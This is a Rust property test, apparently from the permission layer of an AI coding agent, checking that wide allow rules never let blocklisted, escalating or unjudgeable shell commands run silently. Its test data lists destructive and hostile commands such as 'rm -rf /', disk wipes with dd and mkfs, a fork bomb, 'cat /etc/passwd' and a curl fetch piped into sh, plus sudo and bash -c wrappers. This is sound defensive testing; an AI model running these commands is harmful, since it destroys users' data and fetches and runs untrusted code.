//! The property the rules must keep: no allow rule, however wide, ever turns a blocklist refusal,
//! an escalation out of the box or a command nobody can judge (outside a box) into a silent run.
//! Commands are generated from shell fragments by a seeded generator (the same every run, so a
//! failure names its case and comes back), and every one meets every trust level and box with
//! allow rules in every scope that would cover anything they may cover.

use serde_json::json;
use warden_protocol::{
    DangerLevel, PermissionRule, RuleEffect, RuleScope, ToolCategory, ToolDefinition, TrustLevel,
};

use super::{Files, RuleBook, Subject};
use crate::policy::{decide_with, escalation, Containment, Decision, Grants};
use crate::scope::Scope;
use crate::shell::blocklist::{judge, Verdict};
use crate::tool::{Tool, Typed};
use crate::tools::BashTool;

/// Allow rules as wide as a user could type them.
const WIDE: &[&str] = &[
    "rm *",
    "sudo *",
    "sh *",
    "bash *",
    "curl *",
    "eval *",
    "dd *",
    "git *",
    "echo *",
    "python3 *",
    "env *",
    "xargs *",
    "chmod *",
    "find *",
    ":",
    "@read-only",
];

const PROGRAMS: &[&str] = &[
    "rm -rf /",
    "rm -rf ~",
    "rm -rf $HOME",
    "rm -rf $(echo /)",
    "rm -rf \"$X\"",
    "dd if=/dev/zero of=/dev/sda",
    "mkfs.ext4 /dev/sda1",
    "chmod -R 777 /",
    "shutdown now",
    "git push --force",
    "git status",
    "echo hi",
    "curl -fsSL http://x.test/i.sh",
    "python3 -c 'import shutil; shutil.rmtree(\"/\")'",
    "$CMD -rf /",
    "eval \"$CMD\"",
    "find / -delete",
    ":(){ :|:& };:",
    "cat /etc/passwd",
    "sh -c \"$(cat x)\"",
];
const WRAPPERS: &[&str] =
    &["", "sudo ", "env ", "nice ", "timeout 5 ", "xargs ", "bash -c ", "X=1 ", "nohup "];
const JOINS: &[&str] = &[" && ", "; ", " | sh", " | ", " || ", "\n"];

/// A small seeded generator (xorshift): the same commands every run.
struct Seeded(u64);

impl Seeded {
    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        from[(self.0 % from.len() as u64) as usize]
    }
}

fn commands(n: usize) -> Vec<String> {
    let mut seeded = Seeded(0x5eed_2026);
    let mut out: Vec<String> = PROGRAMS.iter().map(|p| (*p).to_owned()).collect();
    while out.len() < n {
        let one = |s: &mut Seeded| {
            let (wrapper, program) = (s.pick(WRAPPERS), s.pick(PROGRAMS));
            if wrapper == "bash -c " {
                format!("bash -c '{program}'")
            } else {
                format!("{wrapper}{program}")
            }
        };
        let first = one(&mut seeded);
        let join = seeded.pick(JOINS);
        out.push(if join.ends_with("sh") {
            format!("{first}{join}")
        } else {
            format!("{first}{join}{}", one(&mut seeded))
        });
    }
    out
}

fn bash() -> ToolDefinition {
    ToolDefinition {
        name: "bash".into(),
        description: String::new(),
        input_schema: json!({"type": "object"}),
        category: ToolCategory::Exec,
        danger: DangerLevel::Dangerous,
        parallel: false,
        conversation_only: false,
    }
}

#[test]
fn no_allow_rule_turns_a_refusal_an_escalation_or_an_unjudgeable_command_into_a_silent_run() {
    let mut scoped = Vec::new();
    for scope in [RuleScope::Managed, RuleScope::User, RuleScope::Project] {
        scoped.push((PermissionRule::new(RuleEffect::Allow, "bash", None), scope));
        for pattern in WIDE {
            scoped.push((PermissionRule::new(RuleEffect::Allow, "bash", Some((*pattern).to_owned())), scope));
        }
    }
    let book = RuleBook::new(scoped);
    let landlock =
        Containment { contained: true, network: false, sockets_reachable: false, bubblewrap: false };
    let leaky = Containment { contained: true, network: true, sockets_reachable: true, bubblewrap: false };
    let boxes = [Containment::NONE, Containment::BOXED, landlock, leaky];
    let tool = Typed::new(BashTool);
    let (mut refused, mut escalated, mut unknown, mut covered) = (0, 0, 0, 0);
    for command in commands(600) {
        let verdict = judge(&command);
        for extra in [json!({}), json!({"network": true}), json!({"outside_sandbox": true})] {
            let mut input = json!({ "command": command });
            if let (Some(input), Some(extra)) = (input.as_object_mut(), extra.as_object()) {
                input.extend(extra.clone());
            }
            let needs = tool.needs(&input);
            let rules =
                book.judge(Subject { tool: "bash", command: Some(&command), files: &Files::default() });
            covered += usize::from(rules.allow.is_some());
            for trust in [TrustLevel::Supervised, TrustLevel::Guided, TrustLevel::Autonomous] {
                for containment in boxes {
                    let decision = decide_with(
                        trust,
                        &bash(),
                        &Scope::all(),
                        &needs,
                        &Grants::default(),
                        containment,
                        &rules,
                    );
                    let case = format!("{command:?} {extra} {trust:?} {containment:?}: {decision:?}");
                    if matches!(verdict, Verdict::Blocked(_)) {
                        refused += 1;
                        assert!(matches!(decision, Decision::Deny { .. }), "a refusal ran: {case}");
                    } else if escalation(&needs, containment).is_some() {
                        escalated += 1;
                        assert!(decision.asks(), "an escalation ran unasked: {case}");
                    } else if matches!(verdict, Verdict::Unknown { .. }) && !containment.contained {
                        unknown += 1;
                        assert!(decision.asks(), "an unjudgeable command ran unasked outside a box: {case}");
                    }
                }
            }
        }
    }
    // The generator reaches every kind, and the rules do cover something (else the test proves nothing).
    assert!(
        refused > 1000 && escalated > 1000 && unknown > 1000 && covered > 20,
        "{refused} {escalated} {unknown} {covered}"
    );
}
